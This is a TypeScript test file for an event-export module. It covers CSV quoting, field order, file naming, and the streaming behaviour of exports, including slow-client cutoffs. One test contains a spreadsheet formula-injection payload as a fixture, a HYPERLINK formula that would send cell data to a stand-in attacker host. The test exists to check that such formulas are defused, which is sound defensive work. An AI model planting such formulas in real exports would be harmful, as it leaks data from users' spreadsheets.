import { describe, expect, it } from 'bun:test';
import { blankEvent, EVENT_FIELDS } from '../ingest/event.ts';
import type { EventStore } from '../store/event-store.ts';
import { CSV_HEADER, csvField, csvLine, exportFilename, exportLines, exportResponse, ndjsonLine } from './export-stream.ts';

describe('export formats', () => {
  it('quotes CSV fields only when RFC 4180 needs it and keeps null apart from the empty string', () => {
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('""');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(404)).toBe('404');
    expect(csvField({ a: [1, 'x,y'] })).toBe('"{""a"":[1,""x,y""]}"');
    // Formulas are defused for spreadsheets: a leading ' makes them plain text.
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx']) expect(csvField(s)).toBe(`'${s}`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('\n=1+1')).toBe(`"'\n=1+1"`);
    expect(csvField(' =1+1')).toBe(`' =1+1`);
    expect(csvField('  @SUM(A1)')).toBe(`'  @SUM(A1)`);
    expect(csvField(' plain')).toBe(' plain');
    expect(csvField('a=b')).toBe('a=b');
  });

  it('writes every field in EVENT_FIELDS order whatever order the event object has', () => {
    const e = blankEvent('id1', '2026-01-01T00:00:00.000Z', 'pixel', 'pixel');
    const shuffled = Object.fromEntries(Object.entries(e).reverse()) as typeof e;
    expect(Object.keys(JSON.parse(ndjsonLine(shuffled)))).toEqual([...EVENT_FIELDS]);
    expect(csvLine(shuffled)).toBe('id1,2026-01-01T00:00:00.000Z,pixel,pixel' + ','.repeat(EVENT_FIELDS.length - 4) + '\r\n');
  });

  it('names the file after what and when', () => {
    expect(exportFilename('pixel', 'p1', 'csv')).toBe('footfall-pixel-p1.csv');
    expect(exportFilename('website', 'w1', 'ndjson', Date.UTC(2026, 0, 2), undefined)).toBe('footfall-website-w1-20260102_now.ndjson');
  });

  it('releases the store iterator when the client goes away mid-stream', async () => {
    let released = false;
    async function* events() {
      try {
        for (let i = 0; ; i++) yield blankEvent(`id${i}`, '2026-01-01T00:00:00.000Z', 'prisme', 'pageview');
      } finally {
        released = true;
      }
    }
    const store = { scan: () => events() } as unknown as EventStore;
    const res = exportResponse(exportLines(store, {}, 'csv'), 'csv', 'x.csv');
    const reader = res.body!.getReader();
    await reader.read();
    await reader.cancel();
    expect(released).toBe(true);
  });

  it('gives up an export whose client takes under the minimum in a window, and gives its slot back once', async () => {
    let now = 0;
    let released = 0;
    let returned = false;
    async function* lines() {
      try {
        for (let i = 0; ; i++) yield `${'x'.repeat(1000)} ${i}\n`;
      } finally {
        returned = true;
      }
    }
    const res = exportResponse(lines(), 'ndjson', 'x', () => void released++, { windowMs: 60_000, minBytes: 1024 * 1024, now: () => now });
    const reader = res.body!.getReader();
    // A trickle: one 64 KB chunk a minute.
    expect((await reader.read()).value!.length).toBeGreaterThan(60_000);
    now += 30_000;
    expect((await reader.read()).done).toBe(false);
    now += 31_000;
    await expect(reader.read()).rejects.toThrow('export read too slowly');
    expect([released, returned]).toEqual([1, true]);
    // A client that keeps up is not cut: 2 MB within the window.
    now = 0;
    const fast = exportResponse(lines(), 'ndjson', 'x', () => {}, { windowMs: 60_000, minBytes: 1024 * 1024, now: () => now });
    const r2 = fast.body!.getReader();
    for (let i = 0; i < 40; i++) {
      now += 2_000;
      expect((await r2.read()).done).toBe(false);
    }
    await r2.cancel();
  });

  it("takes NDJSON lines from the store when it writes them itself, and formats scanned events otherwise", async () => {
    const e = blankEvent('id1', '2026-01-01T00:00:00.000Z', 'pixel', 'pixel');
    async function* one<T>(v: T) {
      yield v;
    }
    const scanning = { scan: () => one(e) } as unknown as EventStore;
    const writing = { scan: () => one(e), scanNdjson: () => one('{"from":"store"}\n') } as unknown as EventStore;
    const text = (lines: AsyncIterable<string>, format: 'ndjson' | 'csv') => exportResponse(lines, format, 'x').text();
    expect(await text(exportLines(scanning, {}, 'ndjson'), 'ndjson')).toBe(ndjsonLine(e));
    expect(await text(exportLines(writing, {}, 'ndjson'), 'ndjson')).toBe('{"from":"store"}\n');
    expect(await text(exportLines(writing, {}, 'csv'), 'csv')).toBe(CSV_HEADER + csvLine(e));
  });
});
